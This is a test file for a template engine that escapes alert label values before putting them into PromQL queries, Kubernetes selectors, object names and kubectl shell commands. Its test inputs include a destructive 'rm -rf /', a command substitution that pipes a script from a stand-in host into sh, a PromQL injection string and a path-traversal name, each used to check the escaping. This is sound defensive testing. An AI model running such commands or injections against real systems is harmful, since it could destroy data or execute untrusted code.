import { describe, expect, it } from "vitest";
import { hostOf, workloadOf } from "../../src/engine/expressions.ts";
import { compileTemplate, escapeFor, type TemplateContext, TemplateError } from "../../src/engine/template.ts";
import { promqlParseError } from "../support/fake-prometheus.ts";
import { pod } from "../support/kube-objects.ts";

/** Renders `source` in `context` with the alert's labels set to `labels`. */
function render(source: string, context: TemplateContext, labels: Record<string, string>): string {
  return compileTemplate(source, context).render({ alert: { labels } });
}

describe("templates in PromQL", () => {
  it("escapes quotes, backslashes and newlines so a label value stays inside its string", () => {
    const query = render('up{job="{{ alert.labels.job }}"}', "promql", { job: 'a"b\\c\nd\re' });
    expect(query).toBe('up{job="a\\"b\\\\c\\nd\\re"}');
    expect(promqlParseError(query)).toBeUndefined();
  });

  it("keeps an injection attempt inside the label matcher", () => {
    const query = render('sum(rate(errors_total{job="{{ alert.labels.job }}"}[5m]))', "promql", { job: '"} or vector(1) or up{x="' });
    expect(query).toBe('sum(rate(errors_total{job="\\"} or vector(1) or up{x=\\""}[5m]))');
    expect(promqlParseError(query)).toBeUndefined();
  });

  it("refuses a placeholder outside a string literal when the rule is loaded", () => {
    expect(() => compileTemplate("rate(x[{{ alert.labels.window }}])", "promql")).toThrow(TemplateError);
    expect(() => compileTemplate("rate(x[{{ alert.labels.window }}])", "promql")).toThrow(/must be inside a "…" string literal/);
  });

  it("accepts a placeholder after an escaped quote inside the same string", () => {
    expect(render('up{job="say \\"{{ alert.labels.job }}\\""}', "promql", { job: "api" })).toBe('up{job="say \\"api\\""}');
  });
});

describe("templates in field selectors", () => {
  it("escapes commas, equals signs and backslashes as the API server expects", () => {
    expect(render("involvedObject.name={{ alert.labels.pod }}", "fieldSelector", { pod: "a,b=c\\d" })).toBe(
      "involvedObject.name=a\\,b\\=c\\\\d",
    );
  });

  it("leaves an ordinary name alone", () => {
    expect(render("spec.nodeName={{ alert.labels.node }}", "fieldSelector", { node: "worker-1.example.com" })).toBe(
      "spec.nodeName=worker-1.example.com",
    );
  });
});

describe("templates in label selectors", () => {
  it("passes a valid label value through", () => {
    expect(render("app.kubernetes.io/name={{ alert.labels.app }}", "labelSelector", { app: "kube-state-metrics" })).toBe(
      "app.kubernetes.io/name=kube-state-metrics",
    );
  });

  it.each([
    ["a space", "my app"],
    ["a comma that would add a requirement", "web,tier!=frontend"],
    ["an equals sign", "a=b"],
    ["a leading dash", "-web"],
    ["64 characters", "a".repeat(64)],
  ])("refuses a value with %s and quotes it in the error", (_what, value) => {
    expect(() => render("app={{ alert.labels.app }}", "labelSelector", { app: value })).toThrow(TemplateError);
    expect(() => render("app={{ alert.labels.app }}", "labelSelector", { app: value })).toThrow(JSON.stringify(value));
  });
});

describe("templates in object names", () => {
  it.each(["kube-state-metrics-6d4b9c7f8-x2x9q", "node-1.example.com", "a"])("passes %s through", (name) => {
    expect(render("{{ alert.labels.pod }}", "objectName", { pod: name })).toBe(name);
  });

  it.each([
    ["upper case", "Web"],
    ["an underscore", "my_pod"],
    ["a slash that would change the request path", "../secrets/x"],
    ["an empty value", ""],
    ["254 characters", "a".repeat(254)],
  ])("refuses a name with %s", (_what, name) => {
    expect(() => render("{{ alert.labels.pod }}", "objectName", { pod: name })).toThrow(/is not a valid Kubernetes object name/);
  });
});

describe("templates in shell commands", () => {
  it.each(["kube-state-metrics", "monitoring/kube-state-metrics", "deployment/web", "10.0.0.5:6443", "app=web,tier=api"])(
    "leaves the safe value %s bare",
    (value) => {
      expect(render("kubectl describe {{ alert.labels.v }}", "shell", { v: value })).toBe(`kubectl describe ${value}`);
    },
  );

  it.each([
    ["a space", "my pod", "'my pod'"],
    ["a semicolon", "web; rm -rf /", "'web; rm -rf /'"],
    ["a command substitution", "$(curl evil.sh | sh)", "'$(curl evil.sh | sh)'"],
    ["backticks", "`id`", "'`id`'"],
    ["a single quote", "it's", "'it'\\''s'"],
    ["a double quote", 'say "hi"', `'say "hi"'`],
    ["nothing at all", "", "''"],
  ])("quotes a value with %s", (_what, value, quoted) => {
    expect(render("kubectl -n monitoring logs {{ alert.labels.v }}", "shell", { v: value })).toBe(`kubectl -n monitoring logs ${quoted}`);
  });
});

describe("template output", () => {
  it("prints a label value that looks like a placeholder literally, never evaluating it again", () => {
    const labels = { x: "{{ alert.labels.secret }}", secret: "do-not-show" };
    expect(render("value: {{ alert.labels.x }}", "text", labels)).toBe("value: {{ alert.labels.secret }}");
    expect(render("kubectl get pod {{ alert.labels.x }}", "shell", labels)).toBe("kubectl get pod '{{ alert.labels.secret }}'");
  });

  it("joins list values with commas and prints numbers and booleans as text", () => {
    const template = compileTemplate("{{ steps.pods.count }} pods: {{ steps.pods.names }} ok={{ steps.pods.ok }}", "text");
    expect(template.render({ steps: { pods: { count: 2, names: ["a", "b"], ok: true } } })).toBe("2 pods: a,b ok=true");
    expect(template.steps).toEqual(["pods", "pods", "pods"]);
  });

  it("leaves text without placeholders unchanged", () => {
    expect(render('up{job="api"}', "promql", {})).toBe('up{job="api"}');
  });

  it("escapes nothing in plain text", () => {
    expect(escapeFor('a "b" $(c)', "text")).toBe('a "b" $(c)');
  });
});

describe("hostOf", () => {
  it.each([
    ["10.0.0.5:6443", "10.0.0.5"],
    ["[fd00::1]:443", "fd00::1"],
    ["[fd00::1]", "fd00::1"],
    ["fd00::1", "fd00::1"],
    ["node-1", "node-1"],
    ["node-1.example.com:10250", "node-1.example.com"],
  ])("takes the host of %s", (instance, host) => {
    expect(hostOf(instance)).toBe(host);
  });

  it("is available to templates", () => {
    expect(render("{{ hostOf(alert.labels.instance) }}", "text", { instance: "[fd00::1]:443" })).toBe("fd00::1");
  });
});

describe("workloadOf", () => {
  const owned = (kind: string, name: string, labels: Record<string, string> = {}) =>
    pod({ name: `${name}-abcde`, labels, ownerReferences: [{ apiVersion: "apps/v1", kind, name, controller: true }] });

  it("names the Deployment of a pod owned by one of its ReplicaSets", () => {
    const ksm = owned("ReplicaSet", "kube-state-metrics-6d4b9c7f8", { "pod-template-hash": "6d4b9c7f8" });
    expect(workloadOf(ksm)).toBe("deployment/kube-state-metrics");
  });

  it("names a ReplicaSet that no Deployment made", () => {
    expect(workloadOf(owned("ReplicaSet", "standalone"))).toBe("replicaset/standalone");
  });

  it.each([
    ["StatefulSet", "statefulset/db"],
    ["DaemonSet", "daemonset/db"],
    ["Job", "job/db"],
  ])("names the %s that owns a pod", (kind, workload) => {
    expect(workloadOf(owned(kind, "db"))).toBe(workload);
  });

  it("names a pod nothing owns by itself", () => {
    expect(workloadOf(pod({ name: "debug" }))).toBe("pod/debug");
  });

  it("is available to templates in shell commands", () => {
    const ksm = owned("ReplicaSet", "kube-state-metrics-6d4b9c7f8", { "pod-template-hash": "6d4b9c7f8" });
    const template = compileTemplate("kubectl -n monitoring rollout restart {{ workloadOf(steps.pod.object) }}", "shell");
    expect(template.render({ steps: { pod: { object: ksm } } })).toBe(
      "kubectl -n monitoring rollout restart deployment/kube-state-metrics",
    );
  });
});

describe("a map in a label selector", () => {
  it("becomes key=value pairs, each checked, as a Service's selector must", () => {
    const selector = compileTemplate("{{ service.spec.selector }}", "labelSelector");
    expect(selector.render({ service: { spec: { selector: { "app.kubernetes.io/name": "metrics-server", tier: "api" } } } })).toBe(
      "app.kubernetes.io/name=metrics-server,tier=api",
    );
    expect(() => selector.render({ service: { spec: { selector: { app: "x,y=z" } } } })).toThrow("is not a valid label value");
    expect(() => selector.render({ service: { spec: { selector: { "bad key!": "x" } } } })).toThrow("is not a valid label key");
  });
});

describe("number formatting in conditions and templates", () => {
  it("keeps the zeros of whole numbers and drops only trailing decimal zeros", () => {
    const render = (source: string) => compileTemplate(source, "text").render({});
    expect(render("{{ fixed(60, 0) }} {{ fixed(100.0, 0) }} {{ fixed(0.5, 2) }} {{ fixed(2.0, 1) }} {{ percent(0.1) }}")).toBe(
      "60 100 0.5 2 10%",
    );
  });
});
